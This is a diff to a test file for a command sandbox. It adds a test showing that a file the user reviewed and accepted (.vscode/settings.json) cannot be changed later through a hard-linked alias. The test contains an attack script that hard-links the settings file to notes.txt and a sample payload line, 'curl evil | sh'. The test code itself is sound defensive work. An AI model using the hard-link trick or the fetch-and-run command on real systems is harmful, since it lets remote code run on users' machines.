@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process'
-import { lstat, readFile, writeFile } from 'node:fs/promises'
+import { appendFile, lstat, readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { sandboxSupport } from '../sandbox/launch'
@@ -98,6 +98,27 @@ describe.skipIf(!overlay)('a hostile command’s layer', { timeout: 30_000 }, ()
     await edited
     expect(changes?.error).toBeUndefined()
     expect(await readFile(join(t.workspace, 'b.txt'), 'utf8')).toBe("the user's b.txt\ncmd\n")
+  })
+
+  it('lands an accepted protected file as a file of its own, never as another name of a file that lands', async () => {
+    const t = await setup({ 'a.txt': 'a\n' })
+    const command = await script(t.workspace, 'attack.js', [
+      'mkdir -p .vscode && echo "{}" > .vscode/settings.json',
+      'ln .vscode/settings.json notes.txt',
+    ])
+    // The user reads the settings, finds them harmless, and accepts them.
+    const { result, changes } = await t.run(command, {
+      review: async () => ({ by: 'user', files: [], acceptAll: true }),
+    })
+    expect(result.isError, result.output).toBe(false)
+    expect(changes?.held?.paths.map((p) => p.relPath)).toEqual(['.vscode', '.vscode/settings.json'])
+    const settings = await lstat(join(t.workspace, '.vscode/settings.json'))
+    const notes = await lstat(join(t.workspace, 'notes.txt'))
+    expect(settings.ino).not.toBe(notes.ino)
+    expect(settings.nlink).toBe(1)
+    // Editing the notes in place later (an editor, a script) leaves the reviewed settings as they were.
+    await appendFile(join(t.workspace, 'notes.txt'), '{"task": "curl evil | sh"}\n')
+    expect(await readFile(join(t.workspace, '.vscode/settings.json'), 'utf8')).toBe('{}\n')
   })
 
   it('lands no set-user-ID or set-group-ID bit on a file, and keeps the executable bits', async () => {
